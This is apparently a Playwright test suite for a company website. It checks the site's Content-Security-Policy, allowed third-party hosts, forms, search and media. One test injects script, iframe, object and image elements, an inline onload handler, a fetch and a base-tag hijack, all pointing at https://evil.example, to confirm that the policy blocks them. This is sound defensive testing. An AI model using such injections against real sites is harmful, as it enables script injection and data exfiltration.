import type { Page, Request } from "playwright-core";
import { ensureNginx } from "../helpers/ensure-nginx";
import { article, branch, firstMenu } from "../helpers/examples";
import { hydrated } from "../helpers/hydrated";
import { fillFields, MESSAGE, REQUEST, sendButton, toast } from "../helpers/lead-forms";
import { startNginx } from "../helpers/nginx-site";
import { answerOthers, BADGE, hostsWork } from "../helpers/other-hosts";
import { policyBreaches, watchPolicy } from "../helpers/policy-breaches";
import { sharedSite } from "../helpers/shared-site";
import type { Site } from "../helpers/site";
import { company, ROUTES, videos, words } from "../helpers/site-content";

/** Suffix of the badge's host names. */
const BADGE_HOSTS = ".icef.com";

const host = sharedSite();

const nginx = ensureNginx();

describe.each(nginx ? ["nginx", "the host"] : ["the host"])("served by %s", (server) => {
  let site: { readonly url: string };
  let proxy: Site | undefined;
  let page: Page;
  let asked: Request[];
  const complaints: string[] = [];

  beforeAll(async () => {
    proxy = nginx && server === "nginx" ? await startNginx(nginx, host.url) : undefined;
    site = proxy ?? host;
    const context = await host.browser.newContext({
      viewport: { width: 1280, height: 900 },
      reducedMotion: "reduce",
    });
    await watchPolicy(context);
    asked = await answerOthers(context, site.url, hostsWork);
    page = await context.newPage();
    page.on("pageerror", ({ message }) => complaints.push(message));
    page.on("console", (message) => {
      if (message.type() === "error" && !message.text().includes("404")) complaints.push(message.text());
    });
  });

  afterAll(async () => {
    await page.context().close();
    await proxy?.stop();
  });

  beforeEach(() => {
    asked.length = 0;
    complaints.length = 0;
  });

  async function open(route: string): Promise<void> {
    await page.goto(site.url + route, { waitUntil: "load" });
    await hydrated(page);
  }

  async function expectNoBreach(): Promise<void> {
    expect(await policyBreaches(page)).toEqual([]);
    expect(complaints).toEqual([]);
  }

  test.each([...ROUTES, "/no-such-page"])("%s runs within its policy", async (route) => {
    await open(route);
    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
    await expectNoBreach();
    // The badge may load before or after this line.
    const others = asked.map((request) => new URL(request.url()).hostname);
    expect(others.filter((host) => !host.endsWith(BADGE_HOSTS))).toEqual([]);
  });

  test("the page has the policy", async () => {
    const response = await page.goto(`${site.url}/about`);
    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self' 'sha256-");
  });

  test("a tap stored by the early script is handled once the bundles have loaded", async () => {
    let deliver = () => {};
    const delivery = new Promise<void>((resolve) => {
      deliver = resolve;
    });
    await page.route("**/*.js", async (route) => {
      await delivery;
      await route.continue();
    });
    await page.goto(`${site.url}/about`, { waitUntil: "load" });
    const countries = page.getByRole("button", { name: firstMenu.title, exact: true });
    await countries.click();
    expect(await countries.getAttribute("aria-busy")).toBe("true");
    deliver();
    await page.locator("[data-menu-list] a:visible").first().waitFor();
    await page.unroute("**/*.js");
    await expectNoBreach();
  });

  test("a navigation loads the next page's code and data", async () => {
    await open("/");
    await page.locator('a[href="/blogs"]:visible').first().click();
    await page.waitForURL("**/blogs");
    await page.locator(`main a[href="${article.path}"]`).first().click();
    await page.waitForURL(`**${article.path}`);
    await expectNoBreach();
  });

  (company.badge.accountId ? test : test.skip)(
    "the badge loads, with its picture and its words",
    async () => {
      await open("/about");
      await page.locator("[data-badge]").scrollIntoViewIfNeeded();
      const picture = page.frameLocator("[data-badge] iframe").locator("#iasBadge img");
      await picture.waitFor();
      await expect(
        picture.evaluate((element: HTMLImageElement) => element.decode()),
      ).resolves.toBeUndefined();
      // The page before may still have been fetching its own badge.
      expect(asked.map((request) => request.url())).toContain(BADGE);
      await expectNoBreach();
    },
  );

  test("both forms show errors, send, and confirm in a toast", async () => {
    await open("/contact");
    await sendButton(page).click();
    await page.getByText("Email is required").waitFor();
    await fillFields(page, MESSAGE);
    await sendButton(page).click();
    await toast(page, "Message sent successfully!").waitFor();
    await expectNoBreach();
    await open("/online-consultation-form");
    await sendButton(page).click();
    await page.locator(".Toastify__toast").first().waitFor();
    await fillFields(page, REQUEST);
    await sendButton(page).click();
    await toast(page, "Consultation request submitted successfully!").waitFor();
    await expectNoBreach();
  });

  test("the search comes with its index and finds a page", async () => {
    await open("/about");
    await page.keyboard.press("/");
    await page.getByRole("searchbox", { name: words.frame.search.label }).fill(article.title);
    await page.locator(`[data-found][href^="${article.path}"]`).first().waitFor();
    await expectNoBreach();
  });

  test("the lightbox opens and turns", async () => {
    await open("/gallery/images");
    await page.locator("[data-gallery-group] li a").first().click();
    await page.getByRole("dialog").locator("img").first().waitFor();
    await page.waitForFunction(() => document.activeElement?.closest("[role=dialog]"));
    await page.keyboard.press("ArrowRight");
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await expectNoBreach();
  });

  test("a map opens", async () => {
    await open("/contact");
    await page.locator(`#branch-${branch.id} button`).click();
    await page.frameLocator("iframe").getByText("A map").waitFor();
    await expectNoBreach();
  });

  (videos.some(({ type }) => type === "local") ? test : test.skip)("a video plays", async () => {
    await open("/gallery/videos");
    await page
      .locator("video")
      .first()
      .evaluate((video: HTMLVideoElement) => video.play());
    await expectNoBreach();
  });

  test("injected scripts neither run nor load", async () => {
    await open("/about");
    const refused = await page.evaluate(async () => {
      const seen: string[] = [];
      const next = () =>
        new Promise<void>((resolve) => {
          document.addEventListener(
            "securitypolicyviolation",
            ({ effectiveDirective }) => {
              seen.push(effectiveDirective);
              resolve();
            },
            { once: true },
          );
        });
      const attempts = [
        () => Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }),
        () => Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
        () => {
          const holder = document.createElement("div");
          holder.innerHTML = `<img src="/favicon.svg" onload="window.ran = 2" alt="">`;
          return holder;
        },
        () => Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }),
        () => Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" }),
        () => Object.assign(document.createElement("object"), { data: "https://evil.example/x" }),
      ];
      for (const attempt of attempts) {
        const refusal = next();
        document.body.append(attempt());
        await refusal;
      }
      const refusal = next();
      fetch("https://evil.example/?what=typed").catch(() => {});
      await refusal;
      const base = next();
      document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
      await base;
      return seen;
    });
    expect(refused).toEqual([
      "script-src-elem",
      "script-src-elem",
      "script-src-attr",
      "frame-src",
      "img-src",
      "object-src",
      "connect-src",
      "base-uri",
    ]);
    expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined();
    expect(asked.filter((request) => request.url().includes("evil"))).toEqual([]);
  });
});
